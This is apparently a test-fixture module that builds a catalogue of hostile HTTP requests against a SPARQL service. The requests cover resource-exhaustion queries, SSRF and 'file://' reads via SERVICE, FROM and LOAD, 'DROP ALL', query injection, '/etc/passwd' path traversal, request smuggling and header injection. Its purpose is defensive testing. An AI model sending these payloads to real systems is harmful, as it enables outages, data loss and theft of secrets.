"""Requests that mean harm: what a stranger could send to take a service down, or to get out of it.

Each is the bytes of one HTTP/1.1 request without its Host line, which `sent` adds.
"""

from urllib.parse import quote, urlencode

FORM = "application/x-www-form-urlencoded"
QUERY = "application/sparql-query"
PRODUCT = (
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . FILTER(?a = ?i && ?c = ?e && STR(?b) = 'x') }"
)


def get(query: str, **more: str) -> bytes:
    path = f"/sparql?{urlencode({'query': query, **more}, quote_via=quote)}"
    return f"GET {path} HTTP/1.1\r\nAccept: */*\r\n".encode()


def post(body: bytes | str, kind: str = QUERY, path: str = "/sparql", *lines: str) -> bytes:
    content = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    head = [f"POST {path} HTTP/1.1", f"Content-Type: {kind}", f"Content-Length: {len(content)}"]
    return "\r\n".join([*head, *lines, ""]).encode() + b"\0" + content


def raw(line: str, *headers: str) -> bytes:
    return "\r\n".join([line, *headers, ""]).encode("latin-1")


def nested(opening: str, middle: str, closing: str, depth: int) -> str:
    return opening * depth + middle + closing * depth


def hostile(canary: str, secret: str) -> dict[str, bytes]:
    """Return the requests by name; `canary` is an address never to be called, `secret` a file."""
    values = " ".join(f'"{at}"' for at in range(2_000))
    escape = f'2025-01-01" }} SERVICE <{canary}> {{ ?a ?b ?c'
    many = "SELECT * { " + " . ".join(f"?v{at} <urn:p> ?v{at + 1}" for at in range(95)) + " }"
    stars = nested("(", "<urn:p>", ")*", 60)
    return {
        "nested parentheses": post(f"SELECT ({nested('(', '1', ')', 10_000)} AS ?x) {{}}"),
        "nested groups": post("SELECT * " + nested("{", "", "}", 10_000)),
        "nested groups below the limit": post("SELECT * " + nested("{", "?a ?b ?c", "}", 90)),
        "nested OPTIONAL": post(
            "SELECT * { ?a ?b ?c " + nested("OPTIONAL { ?a ?b ?c ", "", "}", 90) + "}"
        ),
        "nested NOT": post(f"ASK {{ FILTER({'!' * 20_000}true) }}"),
        "nested blank nodes": post(
            "SELECT * { " + nested("[ <urn:p> ", "1", " ]", 5_000) + " ?a ?b }"
        ),
        "nested paths": post(f"SELECT * {{ ?a {nested('(', '<urn:p>', ')', 8_000)} ?b }}"),
        "nested stars": post(f"SELECT * {{ ?a {stars} ?b }}"),
        "operators": post(f"ASK {{ FILTER({' || '.join(['true'] * 6_000)}) }}"),
        "order conditions": post("SELECT * { ?a ?b ?c } ORDER BY " + "?a " * 5_000),
        "union chain": post("SELECT * { " + " UNION ".join(["{ ?a ?b ?c }"] * 3_000) + " }"),
        "planner bomb": post(many),
        "planner bomb in a list": post("SELECT * { ?a <urn:p> (" + " ?x" * 300 + ") }"),
        "long path": post(f"SELECT * {{ ?a {'/'.join(['<urn:p>'] * 500)} ?b }}"),
        "product": get(PRODUCT),
        "product of values": post(
            f"SELECT (COUNT(*) AS ?n) {{ VALUES ?a {{ {values} }} VALUES ?b {{ {values} }} "
            f"VALUES ?c {{ {values} }} }}"
        ),
        "product that is ordered": get("SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c ?f LIMIT 1"),
        "distinct product": get("SELECT DISTINCT ?a ?f { ?a ?b ?c . ?d ?e ?f }"),
        "all paths": get("SELECT (COUNT(*) AS ?n) { ?a (<urn:p>|!<urn:p>)* ?b }"),
        "regular expression": get(
            "SELECT * { ?a ?b ?c FILTER REGEX(STR(?c), '^(([a-z])+.)+[A-Z]([a-z])+$') }"
        ),
        "regular expression of its own": get(
            f"ASK {{ FILTER REGEX('{'a' * 5000}', '{'(a?)' * 1000}{'a' * 1000}') }}"
        ),
        "memory by concatenation": get(
            "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?c), STR(?d), STR(?f))) AS ?x) "
            "{ ?a ?b ?c . ?d ?e ?f }"
        ),
        "memory by doubling": post(
            "SELECT ?z { BIND('x' AS ?v0) "
            + " ".join(f"BIND(CONCAT(?v{n}, ?v{n}, ?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(40))
            + " BIND(?v40 AS ?z) }"
        ),
        "memory by groups": get(
            "SELECT ?a ?c ?f (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?c ?f"
        ),
        "huge answer": get("SELECT * { ?a ?b ?c . ?d ?e ?f }"),
        "huge graph": get("CONSTRUCT { ?a ?b ?f } WHERE { ?a ?b ?c . ?d ?e ?f }"),
        "huge body": post(b"SELECT" + b" " * 50_000_000),
        "huge form": post(b"query=" + b"a" * 5_000_000, FORM),
        "many fields": post("&".join(["a=b"] * 50_000), FORM),
        "long address": raw(f"GET /sparql?query={'a' * 500_000} HTTP/1.1"),
        "bad UTF-8": post(b"ASK { ?s ?p '\xff\xfe' }"),
        "bad UTF-8 in a form": post(b"query=%ff%fe%00", FORM),
        "surrogate": post("ASK { ?s ?p '\ud800' }"),
        "null bytes": post(b"ASK { ?s ?p '\0' }"),
        "query twice": get("ASK {}").replace(b"query=", b"query=ASK%7B%7D&query="),
        "bad percent": raw("GET /sparql?query=%zz%%%1 HTTP/1.1"),
        "SERVICE": get(f"SELECT * {{ SERVICE <{canary}> {{ ?a ?b ?c }} }}"),
        "SERVICE SILENT in disguise": get(
            f"SELECT * {{ S\\u0045RVICE SILENT <{canary}> {{ ?a ?b ?c }} }}"
        ),
        "SERVICE of a variable": get(
            f"SELECT * {{ VALUES ?s {{ <{canary}> }} SERVICE ?s {{ ?a ?b ?c }} }}"
        ),
        "FROM file": get(f"SELECT * FROM <file://{secret}> {{ ?a ?b ?c }}"),
        "FROM http": get(f"SELECT * FROM <{canary}> {{ ?a ?b ?c }}"),
        "default-graph-uri file": get(
            "SELECT * { ?a ?b ?c }", **{"default-graph-uri": f"file://{secret}"}
        ),
        "default-graph-uri http": get("SELECT * { ?a ?b ?c }", **{"default-graph-uri": canary}),
        "LOAD": post(f"LOAD <{canary}>", "application/sparql-update"),
        "LOAD as a query": get(f"LOAD <file://{secret}>"),
        "update in a form": post(f"update=LOAD+%3C{quote(canary, safe='')}%3E", FORM),
        "DROP": post("DROP ALL", "application/sparql-update"),
        "injection into a question": raw(
            f"GET /questions/in-force-on?date={quote(escape)} HTTP/1.1"
        ),
        "path upwards": raw("GET /data/../../../../etc/passwd HTTP/1.1"),
        "path upwards, encoded": raw("GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1"),
        "two lengths": raw("POST /sparql HTTP/1.1", "Content-Length: 5", "Content-Length: 50"),
        "length and chunks": raw(
            "POST /sparql HTTP/1.1", "Content-Length: 5", "Transfer-Encoding: chunked"
        ),
        "header injection": raw("GET /id/value/privacy%0d%0aSet-Cookie:%20a=b HTTP/1.1"),
        "many headers": raw("GET / HTTP/1.1", *(f"X-{at}: {'y' * 100}" for at in range(5_000))),
        "many media types": raw(
            "GET /sparql?query=ASK%7B%7D HTTP/1.1", "Accept: " + "a/b;q=0.1," * 10_000
        ),
        "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    }


def sent(request: bytes, host: str) -> bytes:
    """Return the bytes of a request with its Host line."""
    head, mark, body = request.partition(b"\0")
    if not mark:
        head, body = request, b""
    return head + f"Host: {host}\r\nConnection: close\r\n\r\n".encode() + body
